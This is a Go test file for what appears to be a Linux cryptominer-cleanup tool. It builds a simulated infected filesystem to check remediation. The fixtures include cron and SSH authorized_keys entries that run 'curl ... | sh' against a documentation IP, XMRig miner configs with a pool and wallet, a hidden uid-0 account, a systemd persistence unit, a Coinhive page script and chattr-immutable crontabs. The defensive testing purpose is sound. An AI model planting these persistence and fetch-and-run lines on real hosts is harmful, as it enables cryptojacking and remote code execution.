//go:build linux

package respond_test

import (
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/minerguard/minerguard/internal/testkit/fstree"
)

// minerELF is a stand-in miner binary: an ELF header and the strings an
// XMRig build carries. It never runs.
const minerELF = "\x7fELF\x02\x01\x01\x00" + "\x00\x00 XMRig 6.21.0 donate.v2.xmrig.com --donate-level cpu-max-threads-hint randomx stratum+tcp:// mining.subscribe \x00"

const xmrigConfig = `{"autosave": true, "donate-level": 1, "cpu": {"enabled": true},
 "pools": [{"url": "stratum+tcp://pool.supportxmr.com:3333", "user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "pass": "x"}]}`

// infectedTree is a root with several real families' artefacts mixed into
// a user's ordinary files (which must survive byte for byte).
var infectedTree = map[string]string{
	"etc/machine-id":  "5f2b1c3d4e5f60718293a4b5c6d7e8f9\n",
	"etc/hostname":    "gpu07\n",
	"etc/passwd":      "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nalice:x:1000:1000::/home/alice:/bin/bash\nsysupd:x:0:0::/root:/bin/bash\n",
	"etc/shadow":      "root:$6$abc$def:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\nalice:$6$ghi$jkl:19000:0:99999:7:::\nsysupd:$6$mno$pqr:19700:0:99999:7:::\n",
	"etc/hosts":       "127.0.0.1 localhost\n::1 localhost\n",
	"etc/crontab":     "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
	"etc/cron.d/8220": "SHELL=/bin/sh\n* * * * * root bash -c \"$(curl -fsSL http://192.0.2.20:8220/i.sh)\"\n",
	// Rocke-style: miner, config and a helper in a hidden temp dir,
	// restarted from root's crontab and .bashrc.
	"tmp/.x/kworkerds":              minerELF,
	"tmp/.x/config.json":            xmrigConfig,
	"var/spool/cron/crontabs/root":  "# m h dom mon dow command\n0 3 * * * /usr/local/bin/backup.sh\n*/10 * * * * /tmp/.x/kworkerds >/dev/null 2>&1\n",
	"root/.bashrc":                  "alias ll='ls -l'\nexport PATH=$PATH:/opt/tools\n/tmp/.x/kworkerds >/dev/null 2>&1 &\n",
	"var/spool/cron/crontabs/alice": "# alice's own jobs\n30 2 * * * /home/alice/bin/sync-data\n*/5 * * * * bash -c \"$(curl -fsSL http://192.0.2.20:8220/i.sh)\"\n",
	// WatchDog-style: a unit that keeps a renamed miner alive, enabled.
	"etc/systemd/system/sysupdate.service":                         "[Unit]\nDescription=system update\n[Service]\nExecStart=/root/.sysupdate/sysupdate\nRestart=always\n[Install]\nWantedBy=multi-user.target\n",
	"etc/systemd/system/multi-user.target.wants/sysupdate.service": "->/etc/systemd/system/sysupdate.service",
	"etc/systemd/system/multi-user.target.wants/ssh.service":       "->/lib/systemd/system/ssh.service",
	"lib/systemd/system/ssh.service":                               "[Service]\nExecStart=/usr/sbin/sshd -D\n",
	"root/.sysupdate/sysupdate":                                    minerELF,
	"root/.sysupdate/config.json":                                  xmrigConfig,
	// A backdoor key among the user's own.
	"root/.ssh/authorized_keys": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl admin@laptop\ncommand=\"curl -fsSL http://192.0.2.20/k.sh|sh\" ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 backdoor\n",
	// The user's data that must survive untouched.
	"home/alice/notes.txt":     "nothing here\n",
	"home/alice/bin/sync-data": "#!/bin/sh\nrsync -a /data /backup\n",
	"usr/local/bin/backup.sh":  "#!/bin/sh\ntar czf /backup/etc.tgz /etc\n",
	"var/www/html/index.html":  "<html><head><title>Lab</title>\n<script src=\"https://coinhive.com/lib/coinhive.min.js\"></script>\n<script>var miner = new CoinHive.Anonymous('SsZsTzbHDPr0xEwxR4ZyCUsLCxPfbBST', {throttle: 0.3}); miner.start();</script>\n</head><body>Welcome to the lab</body></html>\n",
}

// fixedTime is when every fixture path was last modified.
var fixedTime = time.Date(2024, 1, 2, 3, 4, 5, 600, time.UTC)

// writeInfected builds the infected root with owners, xattrs, an immutable
// crontab and fixed times, as a real infected disk has them.
func writeInfected(t testing.TB, root string) {
	t.Helper()
	fstree.Write(t, root, infectedTree, 0)
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(os.Chmod(filepath.Join(root, "etc/shadow"), 0o640))
	must(os.Chmod(filepath.Join(root, "var/spool/cron/crontabs/root"), 0o600))
	must(os.Chmod(filepath.Join(root, "var/spool/cron/crontabs/alice"), 0o600))
	must(os.Chmod(filepath.Join(root, "root/.ssh/authorized_keys"), 0o600))
	for _, p := range []string{"home/alice", "home/alice/notes.txt", "home/alice/bin", "home/alice/bin/sync-data", "var/spool/cron/crontabs/alice"} {
		must(os.Lchown(filepath.Join(root, p), 1000, 1000))
	}
	must(unix.Setxattr(filepath.Join(root, "tmp/.x/kworkerds"), "user.origin", []byte("dropped by i.sh"), 0))
	must(unix.Setxattr(filepath.Join(root, "root/.bashrc"), "user.note", []byte("keep me"), 0))
	// Set times deepest first, so a parent's time is not moved by its children.
	var paths []string
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		paths = append(paths, p)
		return nil
	})
	sort.Sort(sort.Reverse(sort.StringSlice(paths)))
	ts := []unix.Timespec{unix.NsecToTimespec(fixedTime.UnixNano()), unix.NsecToTimespec(fixedTime.UnixNano())}
	for _, p := range paths {
		must(unix.UtimesNanoAt(unix.AT_FDCWD, p, ts, unix.AT_SYMLINK_NOFOLLOW))
	}
	// Malware protects its crontab line with chattr +i.
	chattr(t, filepath.Join(root, "var/spool/cron/crontabs/root"), 0x10)
}

// chattr sets inode flags, skipping the test where the filesystem has none.
func chattr(t testing.TB, p string, flags uint32) {
	t.Helper()
	fd, err := unix.Open(p, unix.O_RDONLY|unix.O_NOFOLLOW, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer unix.Close(fd)
	if err := unix.IoctlSetPointerInt(fd, unix.FS_IOC_SETFLAGS, int(flags)); err != nil {
		t.Logf("no inode flags here (%v): immutable part not tested", err)
	}
}

// clearFlags lets t.TempDir's cleanup remove immutable fixtures.
func clearFlags(root string) {
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err == nil && d.Type()&fs.ModeSymlink == 0 {
			if fd, err := unix.Open(p, unix.O_RDONLY|unix.O_NOFOLLOW|unix.O_NONBLOCK, 0); err == nil {
				unix.IoctlSetPointerInt(fd, unix.FS_IOC_SETFLAGS, 0)
				unix.Close(fd)
			}
		}
		return nil
	})
}
